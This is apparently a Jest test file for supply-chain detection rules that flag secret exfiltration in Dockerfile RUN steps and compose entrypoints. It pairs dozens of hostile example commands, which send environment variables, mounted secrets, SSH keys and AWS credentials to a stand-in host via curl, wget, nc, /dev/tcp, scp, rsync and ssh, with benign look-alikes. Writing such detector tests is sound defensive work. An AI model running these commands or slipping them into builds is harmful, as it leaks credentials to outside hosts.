import { describe, it } from '@jest/globals';
import inContainer from '../../../src/rules/supply-chain/downloads/command-hidden-code.ts';
import rule from '../../../src/rules/supply-chain/downloads/obfuscated-exec.ts';
import { expectMarks } from '../../support/example.ts';

const URL = 'https://collect.example.org/x';

const HOSTILE = [
  `«env | curl -fsS -X POST -d @- ${URL}»`,
  `«env | base64 -w0 | curl --data-binary @- ${URL}»`,
  `«printenv | sort | wget -qO- --post-file=- ${URL}»`,
  '«env | nc 203.0.113.7 4444»',
  '«env > /dev/tcp/203.0.113.7/80»',
  `«curl -d "$(env)" ${URL}»`,
  `«curl --data-urlencode "e=$(printenv | base64)" ${URL}»`,
  `«wget -qO- --post-data="$(env)" ${URL}»`,
  `«cat /proc/self/environ | curl -T - ${URL}»`,
  `«curl -d @/run/secrets/npm ${URL}»`,
  `«curl -F f=@/run/secrets/npm ${URL}»`,
  `«curl -T /root/.ssh/id_ed25519 ${URL}»`,
  `«wget --post-file=/run/secrets/npm ${URL}»`,
  `«curl "${URL}?$(env | base64 -w0)"»`,
  `«curl -H "X-Env: $(env | base64 -w0)" ${URL}»`,
  `«wget -qO- "${URL}/$(printenv | xxd -p)"»`,
  `«wget "${URL}/$(base64 /run/secrets/k)"»`,
  `«curl -fsS "${URL}?k=$(cat /run/secrets/k | base64 -w0)"»`,
  `«tar cz /run/secrets | curl -T - ${URL}»`,
  `«curl -d "$DB_PASSWORD" ${URL}»`,
  `«curl --data-raw "\${API_TOKEN}" ${URL}»`,
  `«cat ~/.aws/credentials | nc collect.example.org 80»`,
  '«nc collect.example.org 80 < /run/secrets/k»',
  `«curl -d @- ${URL} < /run/secrets/k»`,
  `«curl -d@/run/secrets/k ${URL}»`,
  `«curl -T/run/secrets/k ${URL}»`,
  `«wget --post-file /run/secrets/k ${URL}»`,
  `«curl -d "$(cat /run/secrets/k)" ${URL}»`,
  `«curl -d "$(</run/secrets/k)" ${URL}»`,
  `«wget --post-data="$(base64 /run/secrets/k | tr -d x)" ${URL}»`,
  `K=$(cat /run/secrets/k); «curl -d "$K" ${URL}»`,
  `export K="$(cat /run/secrets/k)" && «curl --data-raw $K ${URL}»`,
  `read -r K < /run/secrets/k && «curl -d "$K" ${URL}»`,
  `K=$(cat /run/secrets/k); «printf %s "$K" | nc collect.example.org 80»`,
  `K=$(cat /run/secrets/k) && «nc collect.example.org 80 <<< "$K"»`,
  `«head -c 100 /run/secrets/k | base64 | curl -d @- ${URL}»`,
  `«grep x /run/secrets/k > /dev/tcp/203.0.113.7/80»`,
  '«scp /run/secrets/k me@collect.example.org:/tmp»',
  '«scp -q /run/secrets/k me@collect.example.org:/tmp»',
  '«scp -i /key -rP 22 /run/secrets me@collect.example.org:»',
  '«rsync -a /run/secrets/ me@collect.example.org:/x/»',
  '«rsync -az --exclude x --delete ~/.ssh rsync://collect.example.org:873/x»',
  "«tar c /run/secrets | ssh me@collect.example.org 'tar x'»",
  '«cat ~/.aws/credentials | base64 | ssh -p 2222 collect.example.org tee k»',
];

const HARMLESS = [
  `curl "${URL}?token=$(cat /run/secrets/k)"`,
  `curl -H "Authorization: Basic $(base64 -w0 /run/secrets/k)" ${URL}`,
  `curl "https://$(base64 /run/secrets/k)@collect.example.org/x"`,
  `curl "${URL}?v=$(base64 /app/version)"`,
  `curl "${URL}?v=$(env | grep ^VERSION= | cut -d= -f2)"`,
  `curl "http://127.0.0.1:9000/x?$(env | base64 -w0)"`,
  `tar cz /app | curl -T - ${URL}`,
  `printf 'AUTH %s\\r\\nPING\\r\\n' "$REDIS_PASSWORD" | nc redis 6379`,
  `printf 'AUTH %s' "$REDIS_PASSWORD" | nc -U /run/redis.sock`,
  `echo "$ADMIN_PASSWORD" | socat - UNIX-CONNECT:/run/x.sock`,
  `printf '{"role_id":"%s","secret_id":"%s"}' "$ROLE_ID" "$SECRET_ID" | curl -fsS -d @- https://vault.example.com/v1/auth/approle/login`,
  'scp ~/.ssh/id_rsa.pub me@host.example.com:.ssh/authorized_keys',
  'scp ~/.ssh/known_hosts me@host.example.org:.ssh/',
  'env',
  'env | sort > /env.txt',
  'env | grep ^APP_ > /app.env',
  `env A=1 curl -d @- ${URL} < /data.json`,
  'env | curl -d @- http://127.0.0.1:9000/x',
  'env | curl -d @- http://collector:9000/x',
  `curl -H "Authorization: Bearer $(cat /run/secrets/npm)" ${URL}`,
  `curl -d "password=$(cat /run/secrets/password)" ${URL}`,
  `curl -d "$PAYLOAD" ${URL}`,
  `curl -d "password=$DB_PASSWORD" ${URL}`,
  `curl -H "X-Token: $API_TOKEN" -d "$BODY" ${URL}`,
  `curl -d @/app/report.json ${URL}`,
  `curl -F f=@coverage.xml ${URL}`,
  `curl -fsSLo /a.tgz ${URL}`,
  `export -p > /e && curl ${URL}`,
  `cat /etc/os-release | curl -d @- ${URL}`,
  `curl -d "key=$(cat /run/secrets/k)" ${URL}`,
  `K=$(cat /run/secrets/k); curl -H "Authorization: Bearer $K" ${URL}`,
  `K=$(cat /run/secrets/k) && curl -u "me:$K" -d "$BODY" ${URL}`,
  `K=$(cat /run/secrets/k) && echo "$K" | docker login --password-stdin -u me registry.example.com`,
  `K=$(wc -c < /run/secrets/k); curl -d "$K" ${URL}`,
  `K=$(sha256sum /run/secrets/k); curl -d "$K" ${URL}`,
  `curl -H @/run/secrets/header -d @/app/report.json ${URL}`,
  `curl --cert /run/secrets/k -T /app/a.tgz ${URL}`,
  `curl -o /a ${URL} < /run/secrets/k`,
  'rsync -e "ssh -i /run/secrets/k" -a /app/ me@deploy.example.org:/srv',
  'rsync -a --password-file /run/secrets/k /app/ rsync://me@deploy.example.org/srv',
  'cat ~/.ssh/id_rsa.pub | ssh me@deploy.example.org tee -a .ssh/authorized_keys',
  'echo "$SUDO_PASSWORD" | ssh me@deploy.example.org sudo -S true',
  'tar c /app | ssh -i /run/secrets/k me@deploy.example.org tar x',
  'scp -i /run/secrets/k /app/a.tgz me@deploy.example.org:/srv',
  'nc collector 80 < /app/a',
  'set -e',
  `set -eux; curl -d a=b ${URL}`,
  'nc -z mirror.example.org 443',
];

describe('what is sent to another machine', () => {
  it.each(HOSTILE)('reports %s in a build', (command) => expectMarks(rule, 'Dockerfile', `FROM a\nRUN ${command}\n`));
  it.each(HARMLESS)('accepts %s in a build', (command) => expectMarks(rule, 'Dockerfile', `FROM a\nRUN ${command}\n`));

  it.each([
    `,target=/k «curl -d @/k ${URL}»`,
    `,dst=k «curl -F f=@k ${URL}»`,
    `,target=/k «nc collect.example.org 80 < /k»`,
    `,target=/k «cat /k | curl -T - ${URL}»`,
    `,target=/k «wget --post-file=/k ${URL}»`,
    `,target=/k K=$(cat /k); «curl -d "$K" ${URL}»`,
    `,env=K «curl -d "$K" ${URL}»`,
    `,target=/k «wget "${URL}/$(base64 /k)"»`,
    ` «tar cz /root | curl -T - ${URL}»`,
    `,env=K «echo $K | curl -d @- ${URL}»`,
  ])('reports a mounted secret: %s', (rest) =>
    expectMarks(rule, 'Dockerfile', `FROM a\nRUN --mount=type=secret,id=k${rest}\n`),
  );

  it.each([
    `,target=/k curl -H "Authorization: Bearer $(cat /k)" -d @/app/a ${URL}`,
    `,env=K curl -H "Authorization: Bearer $K" ${URL}`,
    `,env=K curl -u "me:$K" -d "$BODY" ${URL}`,
    `,env=K curl -d "client_secret=$K" ${URL}`,
    `,env=K echo "$K" | docker login --password-stdin -u me registry.example.com`,
    `,env=K twine upload --password "$K" dist/*`,
    `,target=/k curl --cert /k -T a.tgz ${URL}`,
    `,target=/root/.npmrc npm ci && curl -d @a ${URL}`,
    `,env=K curl -d @- http://collector/x < /run/secrets/k`,
  ])('accepts a mounted secret: %s', (rest) =>
    expectMarks(rule, 'Dockerfile', `FROM a\nRUN --mount=type=secret,id=k${rest}\n`),
  );

  const service = (command: string) =>
    `services:\n  a:\n    image: registry.example.com/a:1\n    entrypoint:\n      - sh\n      - -c\n      - |\n        ${command.replaceAll('$', '$$$$')}\n        exec a\n`;

  it.each(HOSTILE)('reports %s in a container', (command) =>
    expectMarks(inContainer, 'compose.yaml', service(command)),
  );
  it.each(HARMLESS)('accepts %s in a container', (command) =>
    expectMarks(inContainer, 'compose.yaml', service(command)),
  );
});
